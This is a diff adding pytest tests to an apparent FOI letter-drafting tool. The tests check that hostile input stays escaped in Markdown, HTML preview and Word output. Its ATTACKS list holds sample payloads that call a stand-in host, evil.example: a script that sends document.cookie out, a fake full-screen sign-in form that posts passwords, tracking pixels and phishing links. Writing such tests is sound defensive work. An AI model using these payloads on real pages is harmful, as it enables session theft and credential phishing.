@@ -505,3 +505,91 @@ def test_letter_renders_as_an_a4_page_with_lists_and_labels(ctx: LetterContext, 
     assert abs(height / width - 297 / 210) < 0.01
     ARTIFACTS.mkdir(exist_ok=True)
     shutil.copy(page, ARTIFACTS / "letter-page-1.png")  # to look at
+
+
+# ----------------------------------------------------------------------- untrusted text stays text (issue H2)
+
+FAKE_SIGN_IN = (
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999">'
+    "<h1>Session expired</h1><form action=\"https://evil.example/steal\" method=\"post\">"
+    '<input name="password" type="password"><button>Sign in</button></form></div>'
+)
+ATTACKS = [
+    FAKE_SIGN_IN,
+    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+    "![tracking pixel](https://evil.example/pixel.png?who=requester)",
+    "[Click to verify your account](https://evil.example/login)",
+    "<img src=https://evil.example/x.png onerror=alert(1)>",
+    "<https://evil.example/autolink>",
+    "[1]: https://evil.example/defined.png\n\n![1]",
+]
+# What must never appear in HTML made from the letter, by our renderer or by any CommonMark renderer.
+DANGEROUS = re.compile(r"<\s*(div|form|script|img|input|iframe|a|style|button)\b|<h1>Session|<[^>]*\b(src|href|style)=", re.I)
+
+
+def hostile_drafts(attack: str) -> tuple[LetterContext, list[Draft]]:
+    ctx = LetterContext.from_settings(
+        Settings(), reference=f"FOI 1 {attack}", received=date(2025, 5, 14), reply_date=date(2025, 6, 9),
+        requester=f"Ms Smith {attack}",
+    )
+    drafts = [
+        Draft(Question("1", f"How many cases? {attack}", [("b", f"And {attack}")]),
+              f"There were 12 cases [1].\n\n{attack}\n\n- a list item {attack}", Status.PROVIDED,
+              citations=[Citation(1, "u1", "d1", f"Title {attack}", "FOI 2", "2024-01-01", f"Quote {attack}")],
+              flags=[Flag("unsupported", f"Unsupported: {attack}")], status_reason=f"Because {attack}"),
+        Draft(Question("2", "Which rates?"), f"Withheld under section 43(2) because {attack} would prejudice "
+              "the providers in future tenders.", Status.EXEMPT, exemptions=["s43"]),
+    ]
+    return ctx, drafts
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("copy", ["requester", "reviewer"])
+def test_requester_and_answer_html_never_becomes_markup(attack: str, copy: str) -> None:
+    from markdown_it import MarkdownIt
+
+    from assistant.ui.export_view import letter_preview
+
+    ctx, drafts = hostile_drafts(attack)
+    text = render_letter(ctx, drafts, copy)
+    # The exported .md holds no raw HTML, image or link: even a renderer that allows HTML makes none of it.
+    permissive = MarkdownIt("commonmark", {"html": True}).render(text)
+    assert not DANGEROUS.search(permissive), DANGEROUS.search(permissive)
+    assert "<" not in re.sub(r"\\<", "", text)
+    # The Export tab's preview (the same Markdown through the app's renderer) is escaped text too.
+    preview = letter_preview(text)
+    assert preview.startswith("<div class='letter-preview'>") and preview.endswith("</div>")
+    inner = preview[len("<div class='letter-preview'>") : -len("</div>")]
+    assert not DANGEROUS.search(inner), DANGEROUS.search(inner)
+    # The text is still there for the reader, as the characters that were typed.
+    assert "evil.example" in preview
+    if attack.startswith("<div"):
+        assert "&lt;form action=&quot;https://evil.example/steal&quot;" in preview
+    # Word shows the same characters as plain text.
+    words = docx_text(letter_docx(ctx, drafts, copy))
+    assert f"Dear Ms Smith {' '.join(attack.split())}," in words.splitlines()
+
+
+def test_preview_renderer_refuses_markup_even_from_a_hand_edited_file() -> None:
+    from assistant.markup import markdown_html
+
+    html = markdown_html("Hello <b>there</b>\n\n![x](https://evil.example/x.png) [y](https://evil.example)\n\n"
+                         "<div style='position:fixed'>x</div>\n\n<https://evil.example>")
+    assert not DANGEROUS.search(html), html
+    assert "&lt;b&gt;there&lt;/b&gt;" in html and "![x](https://evil.example/x.png)" in html
+
+
+def test_hostile_markdown_cannot_pose_as_a_letter_section(ctx: LetterContext) -> None:
+    draft = Draft(Question("1", "Q?"), "Answer.\n# Internal review\nSend your bank details.\n```\n---",
+                  Status.PROVIDED)
+    text = render_letter(ctx, [draft], "requester")
+    assert text.count("## Internal review") == 1 and "\n# Internal review" not in text
+    assert "\\# Internal review" in text and "\n```" not in text
+
+
+def test_a_very_long_reference_or_council_name_still_makes_a_word_file() -> None:
+    ctx = LetterContext.from_settings(Settings(council="C" * 300), reference="R" * 300, received=date(2025, 5, 14),
+                                      reply_date=date(2025, 6, 9))
+    document = docx.Document(io.BytesIO(letter_docx(ctx, [provided()], "requester")))
+    assert len(document.core_properties.title) == 255 and len(document.core_properties.author) == 255
+    assert "R" * 300 in docx_text(letter_docx(ctx, [provided()], "requester"))
